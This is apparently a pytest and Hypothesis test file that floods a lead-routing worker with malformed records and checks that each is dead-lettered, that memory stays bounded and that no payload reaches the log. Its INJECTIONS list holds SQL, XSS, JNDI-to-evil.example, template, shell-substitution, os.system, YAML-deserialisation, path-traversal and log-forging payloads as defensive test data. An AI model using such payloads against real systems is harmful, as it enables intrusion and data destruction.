"""Issue 6, point 4: poison input. Hypothesis generates malformed records of every kind
(bad UTF-8, deep nesting, huge strings, wrong types, absurd timestamps, oversized
messages, injection-like strings in every field, not-an-object, truncated JSON, missing
fields, empty and null values) for all four input topics; each is built with exactly one
known defect, so its dead-letter reason is known in advance, and the contract parser is
held to it record by record. Then all of them go through a real worker:

- the worker does not crash or restart, and routes a valid lead sent after the flood;
- every record is on the dead-letter topic exactly once, byte for byte, with its reason,
  and nothing is routed; the worker's counters agree record for record;
- its memory is bounded: the second half of the flood does not grow it, and the peak
  stays within the consumer's bounded prefetch of its idle size (each size taken once it
  holds still, not after a fixed pause: `steady_rss`, `trimmed_rss`);
- no payload (log-injection CRLF, ANSI escapes, template and shell strings) reaches the
  worker's log.
"""

from __future__ import annotations

import re
import time
from collections import Counter
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, Phase, assume, given, seed, settings
from hypothesis import strategies as st

from tests.reliability.conftest import Rig
from tests.support.faults import (
    ROUTED,
    Ledger,
    MemoryWatch,
    Rec,
    audit,
    produce_all,
    read_all,
    rss_mb,
    wait_settled,
)
from tests.support.metrics import scrape, value
from tests.support.worker import patience, wait_until
from topics import catalogue as cat
from topics.contracts import REASONS, normalise_email, parse
from workers.core.identity import lead_id
from workers.runtime.memory import TRIM_EVERY

pytestmark = pytest.mark.integration
MAX_BYTES = 65536  # config/settings.yaml ingest.max_event_bytes
# A record is judged when it arrives; anything "now" here stays valid for an hour.
NOW = datetime.now(UTC)
KINDS = {
    "form_fill": cat.FORM_FILLS,
    "email_event": cat.EMAIL_EVENTS,
    "ad_click": cat.AD_CLICKS,
    "sales_activity": cat.SALES_ACTIVITIES,
}
MARKER = "PWNED-7f3a"  # in every injection payload: it must never reach the log
INJECTIONS = [
    f"' OR '1'='1' -- {MARKER}",
    f"'; DROP TABLE leads; -- {MARKER}",
    f'" UNION SELECT password FROM users -- {MARKER}',
    f"<script>alert('{MARKER}')</script>",
    f"<img src=x onerror=alert(1)>{MARKER}",
    f"${{jndi:ldap://evil.example/{MARKER}}}",
    f"{{{{7*7}}}} {{{{config}}}} {MARKER}",
    f"$(touch /tmp/{MARKER}) `id` {MARKER}",
    f"__import__('os').system('touch /tmp/{MARKER}')",
    f"!!python/object/apply:os.system ['touch /tmp/{MARKER}']",
    f"\r\n2026-01-01 00:00:00,000 ERROR leadrouter.worker {MARKER} forged log line",
    f"x\r\nerror.reason: ok\r\nsource.topic: {MARKER}",
    f"\x1b[2J\x1b[31m{MARKER}\x1b[0m",
    f"../../../../etc/passwd\x00{MARKER}",
    f"%s%s%s%n%x {MARKER}",
    f"*)(uid=*))(|(uid=* {MARKER}",
    f"\u202e{MARKER}\u200b\ufeff",
    f'","form_id":"demo-request","email":"ceo@bigcorp.com {MARKER}',
    f'{{"$gt": ""}} {MARKER}',
    f"admin@example.com'; DELETE FROM reps; -- {MARKER}",
]
BAD_UTF8 = [
    b"\xff",
    b"\xfe\xff",
    b"\xc3\x28",
    b"\xa0\xa1",
    b"\xe2\x28\xa1",
    b"\xf0\x28\x8c\xbc",
    b"\xed\xa0\x80",  # an encoded surrogate
    b"\xc0\xaf",  # overlong '/'
    b"\xf8\x88\x80\x80\x80",
    b"\xf4\x90\x80\x80",  # beyond U+10FFFF
]
# Known string fields of each kind and their length limits (topics/contracts.py).
STRINGS = {
    "form_fill": {
        "email": 320,
        "form_id": 128,
        "first_name": 2000,
        "last_name": 2000,
        "company": 2000,
        "job_title": 2000,
        "phone": 2000,
        "page_url": 2000,
        "anonymous_id": 256,
        "country": 8,
        "event_id": 256,
    },
    "email_event": {"email": 320, "type": 64, "campaign": 256, "url": 2000, "event_id": 256},
    "ad_click": {
        "platform": 64,
        "click_id": 256,
        "campaign": 256,
        "ad_group": 256,
        "keyword": 256,
        "anonymous_id": 256,
        "email": 320,
        "landing_url": 2000,
        "event_id": 256,
    },
    "sales_activity": {
        "lead_id": 256,
        "rep_id": 256,
        "type": 64,
        "reason": 2000,
        "event_id": 256,
    },
}
REQUIRED = {
    "form_fill": ("email", "form_id", "event_id", "occurred_at"),
    "email_event": ("email", "type", "event_id", "occurred_at"),
    "ad_click": ("platform", "click_id", "event_id", "occurred_at"),
    "sales_activity": ("lead_id", "type", "event_id", "occurred_at"),
}
# The field checked first for each kind: with every field poisoned, its verdict wins.
FIRST_CHECK = {
    "form_fill": "invalid_email",
    "email_event": "invalid_email",
    "ad_click": "invalid_value",
    "sales_activity": "invalid_value",
}


def iso(offset: float = 0.0) -> str:
    return (NOW + timedelta(seconds=offset)).isoformat()


BASE = {
    "form_fill": {"email": "jane.doe@acme-corp.com", "form_id": "whitepaper"},
    "email_event": {"email": "jane.doe@acme-corp.com", "type": "open"},
    "ad_click": {"platform": "google", "click_id": "gclid-1"},
    "sales_activity": {"lead_id": "ld_0123456789abcdef0123", "type": "contacted"},
}
OPTIONAL = {
    "form_fill": {
        "first_name": "Jane",
        "company": "Acme",
        "job_title": "VP Sales",
        "country": "US",
        "employees": 250,
        "utm": {"source": "google", "campaign": "brand"},
        "consent": {"marketing": True},
        "anonymous_id": "visitor-1",
    },
    "email_event": {"campaign": "spring", "url": "https://acme.example/x"},
    "ad_click": {"campaign": "brand", "cost_micros": 1200, "anonymous_id": "visitor-2"},
    "sales_activity": {"rep_id": "ana.silva", "reason": "called"},
}


def _event(kind: str, n: int, age: int, mask: int) -> dict[str, Any]:
    event = {"event_id": f"e{n:x}", "occurred_at": iso(-age), **BASE[kind]}
    for i, (key, optional) in enumerate(sorted(OPTIONAL[kind].items())):
        if mask >> i & 1:
            event[key] = optional
    return event


# Strategies are built once, and an event is three draws: hypothesis's cost is per draw.
VALID = {
    kind: st.builds(
        _event,
        st.just(kind),
        st.integers(0, 2**40),
        st.integers(0, 86400),
        st.integers(0, 2 ** len(OPTIONAL[kind]) - 1),
    )
    for kind in KINDS
}


DEEP = "@@deep@@"


def with_deep(event: dict[str, Any], depth: int, as_object: bool) -> bytes:
    """`event` as JSON with the DEEP placeholder replaced by a structure nested `depth`
    levels (orjson itself refuses to write more than 254)."""
    nested = (
        (b'{"a":' * depth + b'"x"' + b"}" * depth)
        if as_object
        else (b"[" * depth + b'"x"' + b"]" * depth)
    )
    return orjson.dumps(event).replace(b'"' + DEEP.encode() + b'"', nested)


ints = st.integers(-(2**63), 2**63 - 1)  # what orjson can write
wrong_values = st.one_of(
    ints,
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.lists(ints, max_size=3),
    st.dictionaries(st.text(max_size=5), ints, max_size=3),
)
absurd_times = st.one_of(
    st.datetimes(datetime(1, 1, 1), datetime(1999, 12, 30), timezones=st.timezones()).map(
        lambda d: d.isoformat()
    ),
    st.datetimes(datetime(2200, 1, 1), datetime(9999, 12, 31), timezones=st.timezones()).map(
        lambda d: d.isoformat()
    ),
    st.integers(3, 3000).map(lambda days: (NOW + timedelta(days=days)).isoformat()),
    st.datetimes(datetime(2000, 1, 2), datetime(2030, 1, 1)).map(lambda d: d.isoformat()),
    st.dates().map(lambda d: d.isoformat()),
    st.sampled_from(
        [
            "",
            " ",
            "yesterday",
            "2024-02-30T10:00:00Z",
            "2024-06-30T23:59:60Z",
            "2024-13-01T00:00:00Z",
            "2024-01-01T25:00:00Z",
            "2024-01-01T00:00:00+24:00",
            "+275760-09-13T00:00:00Z",
            "-000001-01-01T00:00:00Z",
            "0000-00-00T00:00:00Z",
            "9999-99-99T99:99:99+99:99",
            "2024-01-01T00:00:00Z" + "0" * 30,
            "1970-01-01T00:00:00Z",
            "NaN",
            "Infinity",
            MARKER,
        ]
    ),
)
non_strings = st.one_of(
    ints,
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.lists(ints, max_size=2),
)
filler = st.sampled_from("AbZ9xQ#é€😀")  # one to four bytes of UTF-8 each


CATEGORIES = (
    "bad_utf8",
    "binary",
    "deep_json",
    "deep_field",
    "huge_string",
    "wrong_type",
    "absurd_time",
    "time_type",
    "injection",
    "not_object",
    "truncated",
    "missing",
    "blank",
    "bad_integer",
    "empty",
)
CATEGORY = st.sampled_from(CATEGORIES)
KIND = st.sampled_from(sorted(KINDS))
FIELD = {kind: st.sampled_from(sorted(fields)) for kind, fields in STRINGS.items()}
DEEP_TARGET = {
    kind: st.sampled_from(sorted(fields) + (["utm", "consent"] if kind == "form_fill" else []))
    for kind, fields in STRINGS.items()
}
MISSING = {kind: st.sampled_from(fields) for kind, fields in REQUIRED.items()}
BLANK_FIELD = {
    kind: st.sampled_from([f for f in fields if f != "occurred_at"])
    for kind, fields in REQUIRED.items()
}
BLANKS = st.sampled_from(["", " ", "\t\n", "\u00a0\u3000"])
INJECTION = st.sampled_from(INJECTIONS)
INVALID_UTF8 = st.sampled_from(BAD_UTF8)
NON_UTF8 = st.binary(min_size=1, max_size=2000)
NESTING = st.integers(1, 1000)
NOT_OBJECT = st.one_of(
    st.lists(ints, max_size=5),
    st.text(max_size=50),
    ints,
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.none(),
)
BAD_INTEGER = st.one_of(
    st.integers(-(2**63), -1),
    st.integers(2**53, 2**63 - 1),
    st.text(max_size=10),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
)
EMPTY = st.sampled_from([b"", None])


@st.composite
def malformed(draw: st.DrawFn) -> tuple[str, str, bytes | None, str]:
    """(kind, category, raw, expected reason) for one record with one known defect."""
    kind = draw(KIND)
    category = draw(CATEGORY)
    event = draw(VALID[kind])
    strings = STRINGS[kind]
    if category == "bad_utf8":
        raw = orjson.dumps(event)
        anchor = raw.index(b'"', raw.index(b":") + 1) + 1  # inside the first string value
        return kind, category, raw[:anchor] + draw(INVALID_UTF8) + raw[anchor:], "invalid_encoding"
    if category == "binary":
        raw = draw(NON_UTF8)
        try:
            raw.decode("utf-8")
            assume(False)
        except UnicodeDecodeError:
            pass
        return kind, category, raw, "invalid_encoding"
    if category == "deep_json":  # deeper than any JSON parser should follow
        as_object = draw(st.booleans())
        depth = draw(st.integers(1025, 10000 if as_object else 30000))
        raw = (b'{"a":' * depth + b"1" + b"}" * depth) if as_object else b"[" * depth + b"]" * depth
        return kind, category, raw, "invalid_json"
    if category == "deep_field":  # parseable, but a structure where a scalar belongs
        name = draw(DEEP_TARGET[kind])
        if name == "utm":
            event["utm"] = {"source": DEEP}
        elif name == "consent":
            event["consent"] = {"marketing": DEEP}
        else:
            event[name] = DEEP
        return kind, category, with_deep(event, draw(NESTING), draw(st.booleans())), "invalid_type"
    if category == "huge_string":
        name = draw(FIELD[kind])
        limit = strings[name]
        char = draw(filler)
        size = draw(st.integers(limit + 1, max(limit + 1, 60000 // len(char.encode()))))
        event[name] = char * size
        return kind, category, orjson.dumps(event), "invalid_value"
    if category == "wrong_type":
        event[draw(FIELD[kind])] = draw(wrong_values)
        return kind, category, orjson.dumps(event), "invalid_type"
    if category == "absurd_time":
        event["occurred_at"] = draw(absurd_times)
        return kind, category, orjson.dumps(event), "invalid_time"
    if category == "time_type":
        event["occurred_at"] = draw(non_strings)
        return kind, category, orjson.dumps(event), "invalid_type"
    if category == "injection":  # every field, nested objects and an extra key
        for name in strings:
            event[name] = draw(INJECTION)
        event["occurred_at"] = draw(INJECTION)
        for name in ("utm", "consent"):
            if name in event:
                event[name] = {draw(INJECTION): draw(INJECTION)}
        event[draw(INJECTION)] = draw(INJECTION)
        if "email" in event:
            assume(normalise_email(event["email"]) is None)
        return kind, category, orjson.dumps(event), FIRST_CHECK[kind]
    if category == "not_object":
        top = [event] if draw(st.booleans()) else draw(NOT_OBJECT)
        return kind, category, orjson.dumps(top), "not_an_object"
    if category == "truncated":
        raw = orjson.dumps(event)
        return kind, category, raw[: draw(st.integers(1, len(raw) - 1))], "invalid_json"
    if category == "missing":
        name = draw(MISSING[kind])
        if draw(st.booleans()):
            del event[name]
        else:
            event[name] = None
        return kind, category, orjson.dumps(event), "missing_field"
    if category == "blank":
        event[draw(BLANK_FIELD[kind])] = draw(BLANKS)
        return kind, category, orjson.dumps(event), "missing_field"
    if category == "bad_integer":
        name = "employees" if kind == "form_fill" else "cost_micros"
        if kind not in ("form_fill", "ad_click"):
            kind = draw(st.sampled_from(["form_fill", "ad_click"]))
            name = "employees" if kind == "form_fill" else "cost_micros"
            event = draw(VALID[kind])
        bad = draw(BAD_INTEGER)
        event[name] = bad
        out_of_range = isinstance(bad, int) and not isinstance(bad, bool)
        return (
            kind,
            category,
            orjson.dumps(event),
            "invalid_value" if out_of_range else "invalid_type",
        )
    # empty: no bytes, or no value at all (a tombstone on an input topic)
    return kind, category, draw(EMPTY), "invalid_json"


def oversized(n: int) -> list[tuple[str, str, bytes, str]]:
    """Records beyond the size limit (up to ~0.9 MB, inside the broker's message limit)."""
    sizes = [MAX_BYTES + 1, MAX_BYTES + 7, 100_000, 250_000, 500_000, 900_000]
    out = []
    for i in range(n):
        kind = sorted(KINDS)[i % 4]
        size = sizes[i % len(sizes)]
        head = b'{"event_id": "big-%d", "pad": "' % i
        out.append((kind, "oversized", head + b"x" * (size - len(head) - 2) + b'"}', "too_large"))
    return out


def generate(count: int, random_seed: int) -> list[tuple[str, str, bytes | None, str]]:
    """`count` malformed records from hypothesis, each checked against the contract
    parser on the way (a wrong reason fails here, before any broker is involved)."""
    out: list[tuple[str, str, bytes | None, str]] = []

    @seed(random_seed)
    @settings(
        max_examples=count,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(malformed())
    def collect(case: tuple[str, str, bytes | None, str]) -> None:
        kind, category, raw, reason = case
        got = parse(kind, raw, NOW.timestamp(), MAX_BYTES)
        assert not isinstance(got, dict), f"{category} record accepted as valid: {raw!r:.300}"
        assert got.reason == reason, (category, reason, got, raw[:300] if raw else raw)
        out.append(case)

    collect()
    return out


def test_generated_records_each_have_a_known_reason():
    """The generator itself, without a broker: every category, every reason."""
    cases = generate(600, random_seed=1)
    assert len(cases) >= 500  # hypothesis may stop a little early on rejected draws
    assert {c[1] for c in cases} >= {"bad_utf8", "deep_json", "huge_string", "injection"}
    assert set(REASONS) - {"too_large"} <= {c[3] for c in cases}


# Python's datetime.fromisoformat skips one stray character before the UTC offset, so
# these parse as valid times although none is an RFC 3339 date-time (DESIGN.md's contract).
JUNK_IN_TIME = [
    "2026-11-25T10:00:00\x00Z",
    "2026-11-25T10:00:00xZ",
    "2026-11-25T10:00:00\n+01:00",
    "2026-11-25T10:00:00 +01:00",
    f"2026-11-25T10:00:00{MARKER[0]}Z",
]


@pytest.mark.parametrize("when", JUNK_IN_TIME, ids=repr)
def test_a_time_with_junk_before_its_offset_is_dead_lettered(when):
    event = {"event_id": "e", "occurred_at": when, "email": "a@acme-corp.com", "form_id": "x"}
    got = parse("form_fill", orjson.dumps(event), NOW.timestamp() + 86400 * 400, MAX_BYTES)
    assert not isinstance(got, dict), f"{when!r} accepted as a time"
    assert got.reason == "invalid_time"


def steady_rss(pid: int, what: str) -> float:
    """The process's RSS once it holds still: five samples a quarter second apart within
    1 MiB of each other (a worker just ready may still be starting up)."""
    samples: list[float] = []

    def steady() -> float | None:
        samples.append(rss_mb(pid))
        last = samples[-5:]
        return last[-1] if len(last) == 5 and max(last) - min(last) <= 1.0 else None

    return wait_until(steady, patience(60), f"the RSS of {what} to hold still", every=0.25)


def trimmed_rss(pid: int) -> float:
    """The worker's RSS with freed memory handed back: once caught up it calls malloc_trim
    at most every TRIM_EVERY seconds, so the lowest RSS over a little more than that is its
    size after a trim, whatever the moment it is taken (right after a flood, the RSS still
    holds freed read-ahead buffers until the next trim)."""
    end = time.monotonic() + TRIM_EVERY + patience(3)
    low = rss_mb(pid)
    while time.monotonic() < end:
        time.sleep(0.2)
        low = min(low, rss_mb(pid))
    return low


def poison_run(rig: Rig, count: int, seed: int) -> dict:
    started = time.monotonic()
    cases = generate(count, seed) + oversized(max(12, count // 400))
    generated = time.monotonic() - started
    tag = rig.prefix.rstrip(".")
    ledger = Ledger()
    records: list[Rec] = []
    for i, (kind, _category, raw, reason) in enumerate(cases):
        key = f"{tag}-poison-{i}".encode()
        topic = KINDS[kind]
        ledger.invalid[key] = (topic, reason, raw)
        records.append((topic, key, raw))
    half = len(records) // 2
    worker = rig.worker("w1").launch().wait_ready()
    pid = worker.pid
    idle = steady_rss(pid, "the idle worker")
    with MemoryWatch(pid) as watch:
        produce_all(rig.bootstrap, rig.prefix, records[:half])
        wait_settled(rig.bootstrap, rig.prefix, rig.group, timeout=patience(180))
        after_first = trimmed_rss(pid)
        produce_all(rig.bootstrap, rig.prefix, records[half:])
        wait_settled(rig.bootstrap, rig.prefix, rig.group, timeout=patience(180))
        after_second = trimmed_rss(pid)
    # the worker is still working: a valid lead after the flood is routed
    email = f"after.flood@{tag}.com"
    after = {
        "event_id": f"{tag}-after",
        "occurred_at": datetime.now(UTC).isoformat(),
        "email": email,
        "form_id": "demo-request",
    }
    produce_all(rig.bootstrap, rig.prefix, [(cat.FORM_FILLS, None, orjson.dumps(after))])

    def routed():
        got = read_all(rig.bootstrap, [rig.prefix + t for t in ROUTED])
        return got if got else None

    wait_until(routed, patience(60), "the valid lead sent after the flood to be routed")
    # read again once all work is done, so that a second routing would be seen too
    wait_settled(rig.bootstrap, rig.prefix, rig.group, timeout=patience(60))
    got = read_all(rig.bootstrap, [rig.prefix + t for t in ROUTED])
    assert [r.key for r in got] == [lead_id(email).encode()], "only the valid lead is routed"
    assert worker.alive() and worker.pid == pid, "the worker restarted or died"

    result = audit(rig.bootstrap, rig.prefix, ledger)
    result.problems = [
        p for p in result.problems if "nobody sent" not in p or lead_id(email) not in p
    ]
    assert not result.problems, result.summary()
    assert result.lost == 0 and result.duplicated == 0, result.summary()

    samples = scrape(worker.metrics_url)
    by_topic = Counter(topic for topic, _, _ in records)
    for topic, n in by_topic.items():
        got_n = value(samples, "leadrouter_events_total", topic=topic, outcome="invalid")
        assert got_n == n, f"{topic}: {got_n} counted invalid, {n} sent"
    assert value(samples, "leadrouter_events_total", outcome="ok") == 1

    log = worker.log_text()
    assert MARKER not in log, "a payload reached the log"
    assert "Traceback" not in log and "session failed" not in log, worker.log_tail(80)
    stamp = re.compile(r"^(\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} [A-Z]+ \S+ |%\d\|)")
    stray = [line for line in log.splitlines() if not stamp.match(line)]
    assert not stray, f"log lines not written by the logger (injected?): {stray[:3]}"

    # Memory: the second half must not grow the worker (no per-record retention), and the
    # peak is bounded by the consumer's prefetch (queued.max.messages.kbytes, 16 MiB), one
    # batch and the dead-letter producer's in-flight copy: never by the flood's size.
    flood_mb = sum(len(r[2] or b"") for r in records) / 2**20
    growth = after_second - after_first
    assert growth < 48, f"RSS grew {growth:.0f} MiB over the second half of the flood"
    assert watch.peak - idle < 400, f"peak RSS {watch.peak:.0f} MiB, idle {idle:.0f} MiB"
    reasons = Counter(reason for _, reason, _ in ledger.invalid.values())
    return {
        **result.figures(),
        "generated_in": f"{generated:.0f}s",
        "flood_mb": round(flood_mb),
        "rss_idle_mb": round(idle),
        "rss_peak_mb": round(watch.peak),
        "rss_after_halves_mb": f"{after_first:.0f}/{after_second:.0f}",
        "reasons": ",".join(f"{k}:{v}" for k, v in sorted(reasons.items())),
        "seconds": round(time.monotonic() - started),
    }


def test_ten_thousand_malformed_records_all_dead_lettered(rig, figures):
    figures(poison_run(rig, 10_000, seed=4))


@pytest.mark.long
def test_hundred_thousand_malformed_records_all_dead_lettered(rig, figures):
    figures(poison_run(rig, 100_000, seed=5))
